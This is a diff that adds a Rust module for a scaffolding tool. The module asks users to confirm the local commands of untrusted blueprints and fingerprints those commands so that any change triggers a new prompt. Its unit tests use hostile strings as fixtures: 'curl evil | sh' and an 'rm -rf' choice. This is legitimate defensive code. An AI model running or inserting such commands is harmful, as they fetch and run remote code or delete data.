@@ -0,0 +1,373 @@
+use crate::{
+    analysis::referenced_variables,
+    errors::{FileFormat, FileOperation, IoError, ParseError},
+    prompt::{Choices, QuestionsFile},
+    utils::config_dir,
+};
+use colored::Colorize;
+use inquire::{Confirm, InquireError};
+use miette::Diagnostic;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::{collections::HashSet, fs, path::PathBuf};
+use thiserror::Error;
+
+#[derive(Debug, Error, Diagnostic)]
+pub enum TrustError {
+    #[error("I/O error within trust domain")]
+    #[diagnostic(code(kopye::trust::io))]
+    Io(#[from] IoError),
+
+    #[error("Parsing error within trust domain")]
+    #[diagnostic(code(kopye::trust::parse))]
+    Parse(#[from] ParseError),
+
+    #[error("Unable to save the trust store to '{path}'")]
+    #[diagnostic(code(kopye::trust::serialize))]
+    Serialize {
+        path: PathBuf,
+        #[source]
+        source: toml::ser::Error,
+    },
+
+    #[error("Error occurred trying to confirm trust")]
+    #[diagnostic(code(kopye::trust::prompt))]
+    Prompt(#[from] InquireError),
+
+    #[error("Blueprint `{blueprint}` from '{url}' runs local commands that are not trusted")]
+    #[diagnostic(
+        code(kopye::trust::untrusted),
+        help("Review the commands of blueprint.toml, then confirm them or pass `--trust`. Use `--skip-tasks` to generate without running tasks")
+    )]
+    Untrusted { url: String, blueprint: String },
+}
+
+/// A blueprint whose commands the user allowed, as recorded in the trust store.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct TrustedBlueprint {
+    /// The source url, or the directory of a local source
+    pub url: String,
+    pub blueprint: String,
+    /// The commit the commands were reviewed at, if the source is a git repository
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub commit: Option<String>,
+    /// Hash of everything the commands of the blueprint are made of, see [`inputs`]
+    pub fingerprint: String,
+}
+
+/// The user's trust decisions, stored in `trust.toml` of the kopye config directory.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct TrustStore {
+    #[serde(default)]
+    trusted: Vec<TrustedBlueprint>,
+}
+impl TrustStore {
+    fn path() -> Option<PathBuf> {
+        config_dir().map(|directory| directory.join("trust.toml"))
+    }
+
+    /// Loads the trust store, which is empty when it does not exist yet.
+    pub fn load() -> Result<Self, TrustError> {
+        let Some(path) = TrustStore::path().filter(|path| path.exists()) else {
+            return Ok(TrustStore::default());
+        };
+
+        let content = fs::read_to_string(&path)
+            .map_err(|error| IoError::new(FileOperation::Read, path.clone(), error))?;
+
+        let store = toml::from_str(&content)
+            .map_err(|error| ParseError::new(FileFormat::Toml, path, error))?;
+
+        Ok(store)
+    }
+
+    pub fn save(&self) -> Result<(), TrustError> {
+        let Some(path) = TrustStore::path() else {
+            log::warn!("no config directory found, the trust decision is not remembered");
+
+            return Ok(());
+        };
+
+        let content = toml::to_string_pretty(self).map_err(|error| TrustError::Serialize {
+            path: path.clone(),
+            source: error,
+        })?;
+
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)
+                .map_err(|error| IoError::new(FileOperation::Mkdir, parent.into(), error))?;
+        }
+
+        fs::write(&path, content)
+            .map_err(|error| IoError::new(FileOperation::Write, path.clone(), error))?;
+
+        Ok(())
+    }
+
+    /// Whether the exact commands of a blueprint were trusted before, at any commit.
+    pub fn is_trusted(&self, url: &str, blueprint: &str, fingerprint: &str) -> bool {
+        self.trusted.iter().any(|entry| {
+            entry.url == url && entry.blueprint == blueprint && entry.fingerprint == fingerprint
+        })
+    }
+
+    /// Records a decision, replacing the previous one for the same blueprint.
+    pub fn trust(&mut self, entry: TrustedBlueprint) {
+        self.trusted
+            .retain(|trusted| trusted.url != entry.url || trusted.blueprint != entry.blueprint);
+        self.trusted.push(entry);
+    }
+}
+
+/// Every local command a blueprint may run, as shown to the user: `choices_from` commands, then
+/// tasks along with their directory and condition.
+pub fn commands(questions: &QuestionsFile, include_tasks: bool) -> Vec<String> {
+    let choices = questions
+        .questions
+        .values()
+        .filter_map(|question| question.choices_from.as_ref())
+        .map(|choices_from| choices_from.command.join(" "));
+
+    let tasks = questions
+        .tasks
+        .iter()
+        .filter(|_| include_tasks)
+        .map(|task| {
+            let mut command = task.command.templates().join(" ");
+
+            if let Some(directory) = &task.directory {
+                command.push_str(&format!("  (in {})", directory));
+            }
+            if let Some(when) = &task.when {
+                command.push_str(&format!("  (when {})", when));
+            }
+
+            command
+        });
+
+    choices.chain(tasks).collect()
+}
+
+/// Every template that decides what the commands of a blueprint run: the commands themselves,
+/// the directory and condition of tasks, and the `value` and choices of every question they
+/// reference, directly or through other questions.
+pub fn inputs(questions: &QuestionsFile, include_tasks: bool) -> Vec<String> {
+    let mut inputs = questions
+        .questions
+        .values()
+        .filter(|question| question.choices_from.is_some())
+        .flat_map(|question| question.templates())
+        .chain(
+            questions
+                .tasks
+                .iter()
+                .filter(|_| include_tasks)
+                .flat_map(|task| task.templates()),
+        )
+        .collect::<Vec<_>>();
+
+    let mut seen = HashSet::new();
+    let mut index = 0;
+
+    // `inputs` grows with the templates of every question found along the way
+    while index < inputs.len() {
+        // parse errors are reported when the template is rendered
+        let names = referenced_variables(&inputs[index]).unwrap_or_default();
+        index += 1;
+
+        for name in names {
+            let Some(question) = questions.questions.get(&name) else {
+                continue;
+            };
+            if !seen.insert(name.clone()) {
+                continue;
+            }
+
+            let choices = match &question.choices {
+                Some(Choices::Static(choices)) => choices
+                    .iter()
+                    .map(|choice| choice.value().to_string())
+                    .collect(),
+                _ => Vec::new(),
+            };
+
+            inputs.push(name);
+            inputs.extend(question.templates());
+            inputs.extend(choices);
+        }
+    }
+
+    inputs
+}
+
+/// Hashes the [`inputs`] of a blueprint's commands, so that a decision is asked again whenever
+/// what they run may change.
+pub fn fingerprint(inputs: &[String]) -> String {
+    let mut hasher = Sha256::new();
+
+    for input in inputs {
+        hasher.update(input.as_bytes());
+        hasher.update([0]);
+    }
+
+    hasher
+        .finalize()
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+/// Where a blueprint comes from, to look it up in the [`TrustStore`].
+#[derive(Debug, Clone)]
+pub struct Origin<'a> {
+    pub url: &'a str,
+    pub commit: Option<&'a str>,
+    pub blueprint: &'a str,
+}
+
+/// Makes sure the user trusts the [`commands`] of a blueprint before any of them runs.
+///
+/// Blueprints whose exact commands were trusted before pass silently. Otherwise the commands are
+/// shown and the user is asked to confirm, unless `interactive` is unset, and the decision is
+/// remembered. Changing any of their [`inputs`], e.g. in a later commit, asks again.
+pub fn ensure_trusted(
+    origin: &Origin,
+    questions: &QuestionsFile,
+    include_tasks: bool,
+    interactive: bool,
+) -> Result<(), TrustError> {
+    let commands = commands(questions, include_tasks);
+
+    if commands.is_empty() {
+        return Ok(());
+    }
+
+    let untrusted = || TrustError::Untrusted {
+        url: origin.url.to_string(),
+        blueprint: origin.blueprint.to_string(),
+    };
+
+    let fingerprint = fingerprint(&inputs(questions, include_tasks));
+    let mut store = TrustStore::load()?;
+
+    if store.is_trusted(origin.url, origin.blueprint, &fingerprint) {
+        log::debug!("commands of `{}` are trusted", origin.blueprint);
+
+        return Ok(());
+    }
+
+    if !interactive {
+        return Err(untrusted());
+    }
+
+    println!(
+        "\n{} {} {}",
+        "┌─".bold().yellow(),
+        "Blueprint".bold().yellow(),
+        format!(
+            "`{}` from {} runs local commands",
+            origin.blueprint, origin.url
+        )
+        .yellow()
+    );
+    for command in &commands {
+        println!("{} {}", "│".yellow(), command);
+    }
+    println!("{}", "└─".bold().yellow());
+
+    let confirmed = Confirm::new("Trust these commands and run them?")
+        .with_default(false)
+        .with_help_message("Your decision is remembered until the commands change")
+        .prompt()?;
+
+    if !confirmed {
+        return Err(untrusted());
+    }
+
+    store.trust(TrustedBlueprint {
+        url: origin.url.to_string(),
+        blueprint: origin.blueprint.to_string(),
+        commit: origin.commit.map(str::to_string),
+        fingerprint,
+    });
+
+    store.save()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_trust_store_remembers_fingerprints_per_blueprint() {
+        let mut store = TrustStore::default();
+        let first = fingerprint(&[String::from("npm install")]);
+        let changed = fingerprint(&[String::from("npm install"), String::from("curl evil | sh")]);
+
+        store.trust(TrustedBlueprint {
+            url: String::from("https://github.com/acme/blueprints.git"),
+            blueprint: String::from("web"),
+            commit: Some(String::from("abc123")),
+            fingerprint: first.clone(),
+        });
+
+        let url = "https://github.com/acme/blueprints.git";
+        assert!(store.is_trusted(url, "web", &first));
+        assert!(!store.is_trusted(url, "web", &changed));
+        assert!(!store.is_trusted(url, "api", &first));
+    }
+
+    #[test]
+    fn test_inputs_cover_everything_commands_are_made_of() {
+        let blueprint = |directory: &str, value: &str, choices: &str| {
+            let content = format!(
+                r#"
+                version = 1
+
+                [questions.name]
+                type = "string"
+
+                [questions.pm]
+                type = "select"
+                choices = [{choices}]
+
+                [questions.install]
+                type = "computed"
+                value = "{value}"
+
+                [questions.unrelated]
+                type = "select"
+                choices = ["a", "b"]
+
+                [[tasks]]
+                command = "{{{{ install }}}}"
+                directory = "{directory}"
+                when = "name != 'x'"
+                "#,
+                choices = choices,
+                value = value,
+                directory = directory,
+            );
+
+            let questions = QuestionsFile::parse(&content).unwrap();
+            fingerprint(&inputs(&questions, true))
+        };
+
+        let original = blueprint("web", "pm ~ ' install'", "'npm', 'yarn'");
+
+        assert_eq!(
+            original,
+            blueprint("web", "pm ~ ' install'", "'npm', 'yarn'")
+        );
+        assert_ne!(original, blueprint("/", "pm ~ ' install'", "'npm', 'yarn'"));
+        assert_ne!(original, blueprint("web", "pm ~ ' i'", "'npm', 'yarn'"));
+        assert_ne!(
+            original,
+            blueprint("web", "pm ~ ' install'", "'npm', 'rm -rf'")
+        );
+
+        // without tasks, nothing runs
+        let questions = QuestionsFile::parse("version = 1").unwrap();
+        assert!(inputs(&questions, false).is_empty());
+    }
+}